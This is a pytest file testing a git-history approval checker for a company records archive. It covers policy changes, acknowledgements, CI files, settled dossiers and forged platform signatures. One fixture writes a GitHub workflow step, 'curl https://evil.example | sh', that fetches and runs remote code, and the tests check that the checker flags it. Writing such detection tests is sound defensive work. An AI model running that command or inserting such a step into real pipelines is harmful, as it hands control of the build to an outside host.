"""Rules in force: every main-line commit is judged by the organisation and policy of its first parent.

Each attack was written first against the code that judged the whole history by the files at HEAD and
decided from commit dates what was tracked, and seen to pass unnoticed there; each honest case beside it
(a person leaving, moving, a head replaced) was seen to be flagged there.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest
from editing import dossier, edit
from gitrepo import direct, git, make_repo, merge, on_branch

from generator.demo.company import email
from generator.pipeline import check_archive
from generator.trail import approvals
from generator.trail.history import read_history

O5 = f"{dossier('ORD-2026-0005')}/order.yaml"
ORG, POLICY = "records/organization.yaml", "records/policy.yaml"
T1, T2, T3, T4 = "2026-02-02T10:00:00+08:00", "2026-02-02T16:00:00+08:00", "2026-02-03T10:00:00+08:00", "2026-02-03T16:00:00+08:00"
T5, T6 = "2026-02-04T10:00:00+08:00", "2026-02-04T16:00:00+08:00"


def history_rules(root: Path) -> list[str]:
    return sorted(p.rule for p in check_archive(root).problems if p.rule.startswith("history.") and str(p.severity) == "error")


def new_task(root: Path, task: str = "T9") -> None:
    edit(root, O5, lambda d: d["work_plan"]["tasks"].append({"id": task, "title": "驗收準備 Acceptance prep", "owner": "wu.shufen", "due": "2026-12-15"}))


def person(root: Path, pid: str, **changes) -> None:
    def change(org):
        entry = next(p for p in org["people"] if p["id"] == pid)
        entry.update(changes)

    edit(root, ORG, change)


def approved_order_change(root: Path, branch: str = "order/task", approver: str = "chang.chiahao") -> None:
    on_branch(root, branch, "chen.yichun", T1, "Add a task", new_task)
    merge(root, branch, [approver], T2)


def org_change(root: Path, change, branch: str = "org/change", when: tuple[str, str] = (T3, T4)) -> None:
    """An organisation change written by the archivist and approved as the policy asks (both heads)."""
    on_branch(root, branch, "tseng.yawen", when[0], "Update the organisation", change)
    merge(root, branch, ["hsu.wenpin", "chou.peichun"], when[1])


# --------------------------------------------------------------------------
# 1. The rules in force at the base


def test_a_commit_cannot_switch_off_the_policy_that_judges_it(tmp_path):
    root = make_repo(tmp_path)

    def untrack(r: Path) -> None:
        edit(r, POLICY, lambda p: p.update(approvals_required=False))
        new_task(r)

    direct(root, "huang.chihming", T1, "quick fix", untrack)
    assert "history.unapproved-change" in history_rules(root)
    direct(root, "huang.chihming", T3, "and another", lambda r: new_task(r, "T10"))
    assert history_rules(root).count("history.unapproved-change") == 1  # the next commit is under the new policy


def test_a_policy_that_does_not_validate_leaves_the_last_valid_one_in_force(tmp_path):
    root = make_repo(tmp_path)

    def break_policy(r: Path) -> None:
        edit(r, POLICY, lambda p: p.update(approvals_required="no"))  # not a yes/no: the file does not validate
        new_task(r)

    direct(root, "huang.chihming", T1, "quick fix", break_policy)
    assert history_rules(root) == ["history.invalid-rules", "history.unapproved-change"]
    direct(root, "huang.chihming", T3, "and another", lambda r: new_task(r, "T10"))
    direct(root, "huang.chihming", T5, "and a third", lambda r: new_task(r, "T11"))
    rules = history_rules(root)  # the broken policy switched nothing off: each later commit still needs approval
    assert (rules.count("history.invalid-rules"), rules.count("history.unapproved-change")) == (1, 3)


def test_an_organisation_that_does_not_validate_leaves_the_last_valid_one_for_honest_approvals(tmp_path):
    root = make_repo(tmp_path)
    direct(root, "tseng.yawen", T1, "typo", lambda r: edit(r, ORG, lambda o: o["people"][0].update(active="yes")))
    assert history_rules(root) == ["history.invalid-rules", "history.unapproved-change"]
    on_branch(root, "order/task", "chen.yichun", T3, "Add a task", new_task)
    merge(root, "order/task", ["chang.chiahao"], T4)  # the approver is known to the last valid organisation
    assert history_rules(root) == ["history.invalid-rules", "history.unapproved-change"]


def test_a_back_dated_direct_commit_is_judged_like_any_other(tmp_path):
    root = make_repo(tmp_path)
    direct(root, "huang.chihming", "2025-06-01T10:00:00+08:00", "quick fix", new_task)
    assert history_rules(root) == ["history.unapproved-change"]


def test_a_branch_that_promotes_a_person_gains_nothing_in_its_own_merge(tmp_path):
    root = make_repo(tmp_path)

    def promote_and_use(r: Path) -> None:
        person(r, "wu.shufen", department="sales", roles=["approver"])
        new_task(r)

    on_branch(root, "org/promote", "tseng.yawen", T1, "Promote and add a task", promote_and_use)
    merge(root, "org/promote", ["hsu.wenpin", "chou.peichun", "wu.shufen"], T2, committer="hsu.wenpin")
    assert history_rules(root) == ["history.approver-not-authorised"]
    approved_order_change(root, "order/later", approver="wu.shufen")  # after the merge, the promotion holds
    assert history_rules(root) == ["history.approver-not-authorised"]


def test_loosening_an_approval_rule_takes_effect_only_after_its_merge(tmp_path):
    root = make_repo(tmp_path)

    def loosen(r: Path) -> None:
        edit(r, POLICY, lambda p: p["approvals"]["order"].update(departments=["operations"]))
        new_task(r)

    on_branch(root, "policy/loosen", "tseng.yawen", T1, "Let operations approve orders", loosen)
    merge(root, "policy/loosen", ["hsu.wenpin", "lee.chiawei"], T2, committer="hsu.wenpin")
    assert history_rules(root) == ["history.approver-not-authorised"]  # the order change needed sales


@pytest.mark.parametrize(
    "change",
    [{"active": False}, {"department": "operations"}, {"roles": []}],
    ids=["left the company", "moved to operations", "no longer an approver"],
)
def test_a_past_approval_stays_valid_when_the_approver_leaves_or_moves(tmp_path, change):
    root = make_repo(tmp_path)
    approved_order_change(root)
    org_change(root, lambda r: person(r, "chang.chiahao", **change))
    assert history_rules(root) == []


def test_a_past_approval_stays_valid_when_a_new_head_is_named(tmp_path):
    from generator.demo.company import policy

    approvals = policy()["approvals"]
    approvals["order"]["heads_only"] = True
    root = make_repo(tmp_path, {"approvals": approvals})
    approved_order_change(root, approver="lin.yating")

    def new_head(r: Path) -> None:
        edit(r, ORG, lambda o: next(d for d in o["departments"] if d["id"] == "sales").update(head="chang.chiahao"))

    org_change(root, new_head)
    assert history_rules(root) == []


def test_a_new_hires_approval_before_they_were_added_counts_for_nothing(tmp_path):
    root = make_repo(tmp_path)
    approved_order_change(root, approver="new.hire")

    def hire(r: Path) -> None:
        edit(
            r,
            ORG,
            lambda o: o["people"].append({"id": "new.hire", "name": "新人", "department": "sales", "emails": [email("new.hire")], "roles": ["approver"]}),
        )

    org_change(root, hire)
    assert "history.unknown-approver" in history_rules(root)


# --------------------------------------------------------------------------
# 2. Acknowledged exceptions: approved by someone else, under the policy in force


def acknowledge(root: Path, sha: str, author: str, approver: str, when: tuple[str, str] = (T5, T6)) -> None:
    ack = {"commit": sha, "reason": "緊急修正，事後補審 Emergency fix reviewed afterwards", "approved_by": approver, "on": "2026-02-05"}
    on_branch(root, "policy/ack", author, when[0], "Acknowledge the emergency fix", lambda r: edit(r, POLICY, lambda p: p.update(acknowledged=[ack])))
    merge(root, "policy/ack", [approver], when[1])


def test_an_acknowledgement_approved_under_the_policy_turns_the_error_into_a_warning(tmp_path):
    root = make_repo(tmp_path)
    direct(root, "huang.chihming", T1, "quick fix", new_task)
    acknowledge(root, git(root, "rev-parse", "HEAD").strip()[:12], "tseng.yawen", "hsu.wenpin")
    problems = [p for p in check_archive(root).problems if p.rule.startswith("history.")]
    assert [(p.rule, str(p.severity)) for p in problems] == [("history.unapproved-change", "warning")]
    assert "acknowledged in policy.yaml" in problems[0].message


def test_an_acknowledgement_only_in_the_work_tree_counts_for_nothing(tmp_path):
    root = make_repo(tmp_path)
    direct(root, "huang.chihming", T1, "quick fix", new_task)
    ack = {"commit": git(root, "rev-parse", "HEAD").strip(), "reason": "self-excused", "approved_by": "hsu.wenpin", "on": "2026-02-05"}
    edit(root, POLICY, lambda p: p.update(acknowledged=[ack]))
    assert history_rules(root) == ["history.unapproved-change"]


@pytest.mark.parametrize(("prefix", "says"), [("0000000", "names no commit of the main line"), ("a", None)])
def test_an_acknowledgement_names_exactly_one_commit(tmp_path, prefix, says):
    root = make_repo(tmp_path)
    direct(root, "huang.chihming", T1, "quick fix", new_task)
    if says is None:  # a one-letter prefix would match every commit starting with it: refused by the schema itself
        edit(root, POLICY, lambda p: p.update(acknowledged=[{"commit": prefix, "reason": "x", "approved_by": "hsu.wenpin", "on": "2026-02-05"}]))
        assert any(p.path == POLICY and p.rule.startswith("schema.") for p in check_archive(root).problems)
        return
    acknowledge(root, prefix, "tseng.yawen", "hsu.wenpin")
    [problem] = [p for p in check_archive(root).problems if p.rule == "history.acknowledgement-refused"]
    assert problem.path == POLICY and says in problem.message and str(problem.severity) == "warning"
    assert "history.unapproved-change" in history_rules(root)  # the fix stays an error: nothing excused it


def test_nobody_can_acknowledge_their_own_commit(tmp_path):
    root = make_repo(tmp_path)
    direct(root, "hsu.wenpin", T1, "quick fix by the chairman", new_task)
    acknowledge(root, git(root, "rev-parse", "HEAD").strip(), "tseng.yawen", "hsu.wenpin")
    rules = history_rules(root)
    assert "history.unapproved-change" in rules and "history.acknowledgement-refused" in rules


def test_an_acknowledgement_merged_without_the_policys_approval_counts_for_nothing(tmp_path):
    root = make_repo(tmp_path)
    direct(root, "huang.chihming", T1, "quick fix", new_task)
    acknowledge(root, git(root, "rev-parse", "HEAD").strip(), "tseng.yawen", "lee.chiawei")  # policy changes need the management head
    rules = history_rules(root)
    assert "history.unapproved-change" in rules and "history.acknowledgement-refused" in rules


# --------------------------------------------------------------------------
# 3. Files that shape the archive but are not records


def ci_step(root: Path) -> None:
    workflow = root / ".github/workflows/publish.yml"
    workflow.parent.mkdir(parents=True, exist_ok=True)
    workflow.write_text("on: push\njobs:\n  publish:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl https://evil.example | sh\n")


def test_a_ci_file_changed_straight_on_main_is_an_unapproved_change(tmp_path):
    root = make_repo(tmp_path)
    direct(root, "chen.yichun", T1, "faster CI", ci_step)
    [problem] = [p for p in check_archive(root).problems if p.rule.startswith("history.")]
    assert (problem.rule, problem.path) == ("history.unapproved-change", ".github/workflows/publish.yml")


def test_a_ci_file_needs_the_approval_the_policy_names_for_it(tmp_path):
    root = make_repo(tmp_path)
    on_branch(root, "ci", "chen.yichun", T1, "faster CI", ci_step)
    merge(root, "ci", ["lin.yating"], T2)  # sales approves orders, not the CI
    problems = {p.rule: p.message for p in check_archive(root).problems if p.rule.startswith("history.")}
    assert problems.keys() == {"history.approver-not-authorised", "history.editor-not-allowed"}
    assert "files matching .github/**" in problems["history.approver-not-authorised"] and "of admin" in problems["history.approver-not-authorised"]
    assert "chen.yichun (sales) wrote changes to files matching .github/**" in problems["history.editor-not-allowed"]
    on_branch(root, "site", "tseng.yawen", T3, "site name", lambda r: (r / "mkdocs.yml").write_text("site_name: 宏信 Archive\n"))
    merge(root, "site", ["chou.peichun"], T4)  # the head of administration
    assert history_rules(root) == ["history.approver-not-authorised", "history.editor-not-allowed"]  # the first one only


def test_the_policy_can_give_a_path_to_another_department(tmp_path):
    from generator.demo.company import policy

    approvals = policy()["approvals"]
    approvals["files"] = [{"paths": [".github/**"], "departments": ["tech_support"]}]
    root = make_repo(tmp_path, {"approvals": approvals})
    on_branch(root, "ci", "lai.tingyu", T1, "faster CI", ci_step)
    merge(root, "ci", ["yang.kaiwen"], T2)
    assert history_rules(root) == []
    on_branch(root, "owners", "lai.tingyu", T3, "owners", lambda r: (r / "CODEOWNERS").write_text("* @someone\n"))
    merge(root, "owners", ["yang.kaiwen"], T4)  # CODEOWNERS is not theirs: the organisation file's rule applies
    messages = [p.message for p in check_archive(root).problems if p.rule == "history.approver-not-authorised"]
    assert len(messages) == 2 and all("files matching CODEOWNERS need the head of" in m for m in messages)


# --------------------------------------------------------------------------
# 5. Who may edit which kind, over the whole history


def test_a_branch_written_by_two_departments_is_judged_commit_by_commit(tmp_path):
    settlement = f"{dossier('ORD-2026-0003')}/settlement.yaml"  # accepted, not yet settled
    root = make_repo(tmp_path)
    git(root, "checkout", "-q", "-b", "both")
    direct(root, "chen.yichun", T1, "a task", new_task)  # sales may edit orders
    direct(root, "kuo.peiling", T1, "payment note", lambda r: edit(r, settlement, lambda d: d["plan"].update(method="cheque")))  # finance: settlements
    git(root, "checkout", "-q", "main")
    merge(root, "both", ["lin.yating", "huang.shuhua"], T2)
    assert history_rules(root) == []
    git(root, "checkout", "-q", "-b", "swapped")
    direct(root, "kuo.peiling", T3, "a task", lambda r: new_task(r, "T10"))
    direct(root, "chen.yichun", T3, "payment note", lambda r: edit(r, settlement, lambda d: d["plan"].update(method="bank_transfer")))
    git(root, "checkout", "-q", "main")
    merge(root, "swapped", ["lin.yating", "huang.shuhua"], T4)
    messages = sorted(p.message.split("): ", 1)[1] for p in check_archive(root).problems if p.rule == "history.editor-not-allowed")
    assert len(messages) == 1 and messages[0].startswith("chen.yichun (sales) wrote changes to settlement")  # finance may edit orders (§6.5)


# --------------------------------------------------------------------------
# 4. Closed records stay closed; a record is never born past the approvals of its earlier states

A1 = dossier("ORD-2025-0001")  # archived and settled in the set-up commit


def bump(order: dict) -> None:
    order["intake"]["budget"] = str(int(order["intake"]["budget"]) + 1)


def test_a_settled_orders_budget_changes_only_with_the_approval_for_closed_dossiers(tmp_path):
    root = make_repo(tmp_path)
    on_branch(root, "budget", "chen.yichun", T1, "budget", lambda r: edit(r, f"{A1}/order.yaml", bump))
    merge(root, "budget", ["lin.yating"], T2)  # enough for an open order
    [problem] = [p for p in check_archive(root).problems if p.rule.startswith("history.")]
    assert problem.rule == "history.approver-not-authorised" and "a settled or archived dossier need the head of management" in problem.message
    assert problem.path == f"{A1}/order.yaml"
    on_branch(root, "budget2", "chen.yichun", T3, "budget", lambda r: edit(r, f"{A1}/order.yaml", bump))
    merge(root, "budget2", ["lin.yating", "hsu.wenpin"], T4)  # the route the policy names: management's head
    assert history_rules(root) == ["history.approver-not-authorised"]  # the first one only


def test_a_back_dated_change_form_added_after_settlement_is_caught(tmp_path):
    root = make_repo(tmp_path)
    old = f"{A1}/changes/CR-2025-0001-01.yaml"

    def add_form(r: Path) -> None:
        text = (r / old).read_text(encoding="utf-8").replace("CR-2025-0001-01", "CR-2025-0001-02")
        (r / f"{A1}/changes/CR-2025-0001-02.yaml").write_text(text, encoding="utf-8")  # dated in 2025, self-consistent

    on_branch(root, "late-form", "chen.yichun", T1, "a change form", add_form)
    merge(root, "late-form", ["wang.chienhung", "huang.shuhua"], T2)  # what a change form needs while the order is open
    problems = [p for p in check_archive(root).problems if p.rule.startswith("history.")]
    assert [p.rule for p in problems] == ["history.approver-not-authorised"]
    assert problems[0].path.endswith("CR-2025-0001-02.yaml") and "settled or archived dossier" in problems[0].message


def born_in_progress(root: Path) -> None:
    source = root / dossier("ORD-2026-0005")
    target = root / dossier("ORD-2026-0009")
    target.mkdir(parents=True)
    (target / "order.yaml").write_text((source / "order.yaml").read_text(encoding="utf-8").replace("ORD-2026-0005", "ORD-2026-0009"), encoding="utf-8")


def test_an_order_born_in_progress_needs_the_approvals_of_the_reviews_it_skipped(tmp_path):
    root = make_repo(tmp_path)
    on_branch(root, "born", "chen.yichun", T1, "a new order", born_in_progress)
    merge(root, "born", ["lin.yating"], T2)  # sales alone approves an order that is only received
    messages = sorted(p.message for p in check_archive(root).problems if p.rule.startswith("history."))
    assert len(messages) == 2 and all("entering in_progress need an approver of" in m for m in messages)
    assert "operations" in messages[0] + messages[1] and "finance" in messages[0] + messages[1]


def test_an_order_born_in_progress_with_its_reviewers_approval_passes(tmp_path):
    root = make_repo(tmp_path)
    on_branch(root, "born", "chen.yichun", T1, "a new order", born_in_progress)
    merge(root, "born", ["lin.yating", "wang.chienhung", "huang.shuhua"], T2)
    assert history_rules(root) == []


# --------------------------------------------------------------------------
# 7. The platform's merge button


@pytest.fixture(scope="module")
def platform_key(tmp_path_factory) -> Path:
    key = tmp_path_factory.mktemp("platform") / "web-flow"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "web-flow", "-f", str(key)], check=True)
    return key


def as_platform(root: Path, args: list[str], reviewer: str, when: str, key: Path | None = None) -> None:
    """A git command run by the platform: author the reviewer who pressed the button, committer the platform."""
    env = {**os.environ, "GIT_AUTHOR_NAME": reviewer, "GIT_AUTHOR_EMAIL": email(reviewer), "GIT_COMMITTER_NAME": "GitHub", "GIT_COMMITTER_EMAIL": GITHUB}
    env |= {"GIT_AUTHOR_DATE": when, "GIT_COMMITTER_DATE": when}
    signing = ["-c", "gpg.format=ssh", "-c", f"user.signingkey={key}"] if key else []
    subprocess.run(["git", *signing, *args, *(["-S"] if key else [])], cwd=root, env=env, check=True, capture_output=True)


GITHUB = "noreply@github.com"


def github(key: Path, signed: bool = True) -> dict:
    public = " ".join(Path(f"{key}.pub").read_text().split()[:2])
    return {"platforms": [{"name": "GitHub", "committer": GITHUB, "signing_keys": [public]}], "require_signed_approvals": signed}


def test_a_merge_made_by_the_platforms_button_counts_as_approved_by_its_author(tmp_path, platform_key):
    root = make_repo(tmp_path, github(platform_key))
    on_branch(root, "task", "chen.yichun", T1, "add a task", new_task)
    as_platform(root, ["merge", "-q", "--no-ff", "-m", "Merge pull request #7 from hongxin/task", "task"], "lin.yating", T2, platform_key)
    assert history_rules(root) == []
    [approval] = [a for a in check_archive(root).approvals if a.tracked]
    assert [(a.person, a.verified) for a in approval.approvers] == [("lin.yating", True)]


def test_a_merge_claiming_the_platform_without_its_signature_proves_nothing(tmp_path, platform_key):
    other = tmp_path / "other-key"
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", str(other)], check=True)
    root = make_repo(tmp_path / "repo", github(platform_key))
    on_branch(root, "task", "chen.yichun", T1, "add a task", new_task)
    as_platform(root, ["merge", "-q", "--no-ff", "-m", "Merge pull request #7 from hongxin/task", "task"], "lin.yating", T2, other)
    assert "history.unverified-approval" in history_rules(root)


def test_a_squash_merge_counts_only_with_trailers_of_someone_else(tmp_path, platform_key):
    root = make_repo(tmp_path, github(platform_key, signed=False))

    def squash(branch: str, author: str, trailers: str, when: str) -> None:
        on_branch(root, branch, author, when, "a task", lambda r: new_task(r, branch.upper()))
        git(root, "merge", "-q", "--squash", branch)
        env = {"GIT_AUTHOR_NAME": author, "GIT_AUTHOR_EMAIL": email(author), "GIT_COMMITTER_NAME": "GitHub", "GIT_COMMITTER_EMAIL": GITHUB}
        env |= {"GIT_AUTHOR_DATE": when, "GIT_COMMITTER_DATE": when}
        message = f"Add a task (#8)\n\n{trailers}".strip() + "\n"
        subprocess.run(["git", "commit", "-q", "-m", message], cwd=root, env={**os.environ, **env}, check=True)

    squash("t10", "chen.yichun", "", T1)
    [problem] = [p for p in check_archive(root).problems if p.rule.startswith("history.")]
    assert problem.rule == "history.unapproved-change" and "enable 'Create a merge commit'" in problem.message
    squash("t11", "chen.yichun", f"Approved-by: Lin <{email('lin.yating')}>", T3)
    assert history_rules(root) == ["history.unapproved-change"]  # the first one only
    squash("t12", "chen.yichun", f"Approved-by: Chen <{email('chen.yichun')}>", T5)
    assert history_rules(root) == ["history.approver-not-authorised", "history.self-approval", "history.unapproved-change"]


def test_records_destroyed_beside_their_disposal_need_only_the_disposals_approvers(tmp_path):
    qc = f"{dossier('ORD-2026-0005')}/quality/QC-2026-0005-01.yaml"
    root = make_repo(tmp_path)

    def destroy(r: Path) -> None:
        edit(r, "records/archive/disposals/DS-2026-0001.yaml", lambda d: d["items"].append({"record": "QC-2026-0005-01", "retention_until": "2024-12-31"}))
        (r / qc).unlink()

    on_branch(root, "dispose", "tseng.yawen", T1, "Destroy a quality record", destroy)
    merge(root, "dispose", ["chou.peichun", "hsu.wenpin"], T2, committer="hsu.wenpin")
    assert history_rules(root) == []  # no quality approver: the destruction is the disposal's
    direct_delete = f"{dossier('ORD-2026-0007')}/order.yaml"
    on_branch(root, "quiet", "tseng.yawen", T3, "Remove an order", lambda r: (r / direct_delete).unlink())
    merge(root, "quiet", ["chou.peichun", "hsu.wenpin"], T4, committer="hsu.wenpin")
    assert history_rules(root) == ["history.approver-not-authorised", "history.deleted-without-disposal"]


def gpg_key(folder: Path) -> tuple[dict, str]:
    """A GPG key that says it is GitHub's web-flow key, in a keyring of its own: (environment, armored public key)."""
    folder.mkdir(mode=0o700)
    env = {**os.environ, "GNUPGHOME": str(folder)}
    args = ["gpg", "--batch", "--quiet", "--passphrase", "", "--quick-gen-key", f"GitHub <{GITHUB}>", "ed25519", "sign", "never"]
    subprocess.run(args, env=env, check=True, capture_output=True)
    public = subprocess.run(["gpg", "--batch", "--armor", "--export", GITHUB], env=env, check=True, capture_output=True, text=True).stdout
    return env, public


@pytest.mark.skipif(shutil.which("gpg") is None, reason="gpg is not installed")
def test_githubs_gpg_signed_merge_button_counts_and_a_look_alike_key_does_not(tmp_path):
    web_flow, public = gpg_key(tmp_path / "web-flow")
    impostor, _ = gpg_key(tmp_path / "impostor")  # the same name and address, another key
    policy = {"platforms": [{"name": "GitHub", "committer": GITHUB, "gpg_key": public}], "require_signed_approvals": True}
    for keyring, verified in ((web_flow, True), (impostor, False)):
        root = make_repo(tmp_path / f"repo-{verified}", policy)
        on_branch(root, "task", "chen.yichun", T1, "add a task", new_task)
        env = {
            **keyring,
            "GIT_AUTHOR_NAME": "lin.yating",
            "GIT_AUTHOR_EMAIL": email("lin.yating"),
            "GIT_COMMITTER_NAME": "GitHub",
            "GIT_COMMITTER_EMAIL": GITHUB,
        }
        env |= {"GIT_AUTHOR_DATE": T2, "GIT_COMMITTER_DATE": T2}
        args = ["git", "-c", "gpg.format=openpgp", "-c", f"user.signingkey={GITHUB}", "merge", "-q", "--no-ff", "-S", "-m", "Merge pull request #9", "task"]
        subprocess.run(args, cwd=root, env=env, check=True, capture_output=True)
        [approval] = [a for a in check_archive(root).approvals if a.tracked]
        assert [(a.person, a.verified) for a in approval.approvers] == [("lin.yating", verified)]
        assert history_rules(root) == ([] if verified else ["history.approver-not-authorised", "history.unverified-approval"])


def test_switching_signatures_off_is_judged_by_the_policy_that_required_them(tmp_path):
    root = make_repo(tmp_path, {"require_signed_approvals": True})

    def unsign(r: Path) -> None:
        edit(r, POLICY, lambda p: p.update(require_signed_approvals=False))
        new_task(r)

    on_branch(root, "policy/unsigned", "tseng.yawen", T1, "No more signatures", unsign)
    merge(root, "policy/unsigned", ["hsu.wenpin", "lin.yating"], T2, committer="hsu.wenpin")  # unsigned
    assert "history.unverified-approval" in history_rules(root)
    approved_order_change(root, "order/later")  # after it, unsigned approvals count
    assert history_rules(root).count("history.unverified-approval") == 2  # both approvers of the first merge only


@pytest.mark.parametrize("kept", ["all but the last", "all but the first after the break"])
def test_judgements_kept_from_the_last_build_leave_the_broken_files_last_valid_version_in_force(tmp_path, kept):
    """A build after a merge judges only the new commits, the others' approvals made from what the last build kept
    (``approvals.Approvals``, made when asked for). Rules that do not validate at a new commit's base must still leave
    the last valid ones in force there, never none: every approval as a judging of the whole history gives it."""
    root = make_repo(tmp_path)

    def break_both(r: Path) -> None:
        edit(r, POLICY, lambda p: p.update(approvals_required="no"))  # not a yes/no: the file does not validate
        edit(r, ORG, lambda o: o["people"][0].update(active="yes"))
        new_task(r)

    direct(root, "huang.chihming", T1, "quick fix", break_both)
    on_branch(root, "order/task", "chen.yichun", T3, "Add a task", lambda r: new_task(r, "T10"))
    merge(root, "order/task", ["chang.chiahao"], T4)  # known to the last valid organisation
    direct(root, "huang.chihming", T5, "and another", lambda r: new_task(r, "T11"))  # still needs approval
    history, catalog = read_history(root), check_archive(root, history=False).catalog
    whole = approvals.evaluate(history, catalog)
    judged: dict = {}
    approvals.evaluate(history, catalog, judged)
    broken = next(i for i, c in enumerate(history.commits) if c.subject.startswith("quick fix"))
    new = [len(history.commits) - 1] if kept == "all but the last" else list(range(broken + 1, len(history.commits)))
    for index in new:
        del judged[history.commits[index].sha]
    again = approvals.evaluate(history, catalog, judged)

    def shown(found: list) -> list:
        return [(a.commit.sha, a.tracked, a.acknowledged, [p[0] for p in a.problems], a.rules.policy is None, a.rules.organization is None) for a in found]

    assert shown(again) == shown(whole)
    assert [p[0] for a in whole[-2:] for p in a.problems] == ["history.unapproved-change"], "the merge passes, the direct commit is flagged"


def test_the_approvals_of_judgements_kept_are_made_when_asked_for_and_each_once(tmp_path, monkeypatch):
    """After a merge the verdict reads few of the approvals (``approvals.Approvals``): those the acknowledgements
    name or whose commits change the policy are made by the judging, any other when a reader asks for it. Each is
    made once, so the acknowledgement written into one is what every reader finds, and every way of asking (in
    order, by commit, those with problems, by a hash's prefix, a slice) gives what a list of all of them gives."""
    root = make_repo(tmp_path)
    direct(root, "huang.chihming", T1, "quick fix", new_task)
    fix = git(root, "rev-parse", "HEAD").strip()
    acknowledge(root, fix[:12], "tseng.yawen", "hsu.wenpin")
    on_branch(root, "order/task", "chen.yichun", T3, "Add a task", lambda r: new_task(r, "T10"))
    merge(root, "order/task", ["chang.chiahao"], T4)
    history, catalog = read_history(root), check_archive(root, history=False).catalog
    judged: dict = {}
    whole = list(approvals.evaluate(history, catalog, judged))
    made: list[str] = []
    real = approvals._approval
    monkeypatch.setattr(approvals, "_approval", lambda commit, *rest: made.append(commit.sha) or real(commit, *rest))
    again = approvals.evaluate(history, catalog, dict(judged))
    policy_merges = [a.commit.sha for a in whole if POLICY in {c.path for c in a.commit.changes}]
    assert sorted(made) == sorted({fix, *policy_merges}) and len(made) < len(whole) >= 4  # the acknowledgement's work only

    def shown(found) -> list:
        return [(a.commit.sha, a.kinds, a.approvers, a.tracked, a.acknowledged, a.problems) for a in found]

    at = {commit.sha: index for index, commit in enumerate(history.commits)}
    assert again.of_commit(at[fix]).acknowledged and again.of_commit(at[fix]) is next(a for a in again if a.commit.sha == fix)
    assert shown(again) == shown(whole) and len(made) == len(whole)  # iterated: each made once, the rest now
    assert shown(again.with_problems()) == shown(a for a in whole if a.problems)
    assert shown(again.named(fix[:7])) == shown(a for a in whole if a.commit.sha == fix) and again.named(fix[:6]) == []
    assert shown(again[1:3]) == shown(whole[1:3]) and shown([again[-1]]) == shown(whole[-1:])
    by_sha = {a.commit.sha: a for a in whole}
    assert [shown([a]) if a else None for a in map(again.of_commit, range(len(history.commits)))] == [
        shown([by_sha[c.sha]]) if c.sha in by_sha else None for c in history.commits
    ]  # a commit that needs none has none
    assert len(made) == len(whole)
